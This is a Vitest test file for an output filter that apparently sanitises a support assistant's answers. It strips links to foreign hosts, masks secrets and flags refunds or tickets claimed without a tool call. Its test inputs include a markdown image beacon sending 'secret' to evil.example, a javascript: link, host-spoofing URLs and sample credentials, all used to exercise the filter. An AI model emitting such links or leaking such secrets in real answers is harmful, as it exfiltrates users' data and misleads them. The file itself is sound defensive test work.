import { describe, expect, it } from "vitest";
import { checkOutput, dropForeignLinks, findUnbackedCommitments, hideSecrets } from "./output";

const hosts = ["help.example.com"];

describe("links", () => {
  it.each([
    ["See [returns](/help/returns).", "See [returns](/help/returns)."],
    ["See [returns](https://help.example.com/x?y=1#z).", "See [returns](https://help.example.com/x?y=1#z)."],
    ["Go to https://help.example.com/a, please.", "Go to https://help.example.com/a, please."],
    ["a [1] b [2]", "a [1] b [2]"],
  ])("keeps %s", (text, expected) => {
    expect(dropForeignLinks(text, hosts)).toEqual({ text: expected, removed: 0 });
  });

  it.each([
    ["See [here](https://evil.example/x).", "See here."],
    ['See [here](https://evil.example/x "title").', "See here."],
    ["![pixel](https://evil.example/?q=secret)", "pixel"],
    ["[x](//evil.example)", "x"],
    ["[x](/\\evil.example)", "x"],
    ["[x](javascript:alert(1))", "x"],
    ["[x](https://help.example.com@evil.example/)", "x"],
    ["[x](https://help.example.com.evil.example/)", "x"],
    ["[[1]](https://evil.example)", "[1]"],
    ["<https://evil.example>", "(link removed)"],
    ["visit https://evil.example/path.", "visit (link removed)."],
    ["visit www.evil.example now", "visit (link removed) now"],
    ['<a href="https://evil.example">x</a>', "x"],
    ["[x][1]\n\n[1]: https://evil.example", "[x][1]\n\n"],
  ])("drops the target of %s", (text, expected) => {
    const result = dropForeignLinks(text, hosts);
    expect(result.text).toBe(expected);
    expect(result.removed).toBeGreaterThan(0);
  });
});

describe("secrets", () => {
  it.each([
    "sk-proj-abcdefghijklmnop1234567890",
    "ghp_abcdefghijklmnopqrstuvwxyz123456",
    "AKIAIOSFODNN7EXAMPLE",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abcdefghijklmnop",
    "postgres://baton:hunter2@db.internal:5432/baton",
    "$argon2id$v=19$m=65536,t=3,p=4$c29tZXNhbHQ$RdescudvJCsgt3ub",
    "password: hunter2!",
    "4242 4242 4242 4242",
  ])("blots out %s", (secret) => {
    const result = hideSecrets(`It is ${secret} indeed`);
    expect(result.hidden).toBe(1);
    expect(result.text).not.toContain(secret.slice(-6));
  });

  it("leaves ordinary answers alone", () => {
    const text =
      "Choose “Forgot password”: the link is valid for one hour. Your token of thanks, ticket #1042.";
    expect(hideSecrets(text)).toEqual({ text, hidden: 0 });
  });
});

describe("commitments", () => {
  it.each([
    ["I have refunded your order.", "refund"],
    ["We will refund the full amount.", "refund"],
    ["Your refund has been processed.", "refund"],
    ["I'll give you a 20% discount.", "discount"],
    ["I've cancelled your subscription.", "cancellation"],
    ["I have opened a ticket for you.", "ticket"],
    ["I have closed your ticket.", "ticket"],
    ["I've sent you an email.", "notification"],
    ["I will email you tomorrow.", "notification"],
    ["I have updated your phone number.", "profile"],
    ["I’m transferring you to a colleague.", "handover"],
    ["Someone will call you back.", "callback"],
    ["I'll get back to you within 24 hours.", "callback"],
    ["We will send you a replacement.", "delivery"],
  ] as const)("finds %s", (text, kind) => {
    expect(findUnbackedCommitments(`Hello. ${text} Bye.`, [])).toEqual([{ kind, sentence: text }]);
  });

  it.each([
    ["I have opened a ticket for you.", "create_ticket"],
    ["I have opened ticket #12: “x”.", "create_ticket"],
    ["I have sent you this by email.", "send_notification"],
    ["I have updated your profile:", "update_customer_profile"],
  ])("lets %s stand after %s", (text, tool) => {
    expect(findUnbackedCommitments(text, [tool])).toEqual([]);
  });

  it.each([
    "I cannot refund this myself.",
    "Shall I open a ticket for you?",
    "We will refund the price within 5 days [1].",
    "I have not cancelled anything.",
    "You can return it within 30 days.",
    "Refunds reach your card within 5 business days.",
    "I could not find this in our help center.",
  ])("lets %s stand", (text) => {
    expect(findUnbackedCommitments(text, [])).toEqual([]);
  });

  it("is not excused from a deed by a citation", () => {
    expect(findUnbackedCommitments("I have refunded your order [1].", [])).toHaveLength(1);
  });
});

it("checks a whole answer at once", () => {
  expect(
    checkOutput(
      "I have refunded you, see [here](https://evil.example). Key sk-proj-abcdefghijklmnop1234.",
      hosts,
      [],
    ),
  ).toMatchObject({
    text: "I have refunded you, see here. Key (removed).",
    removedLinks: 1,
    hiddenSecrets: 1,
    commitments: [{ kind: "refund" }],
  });
});
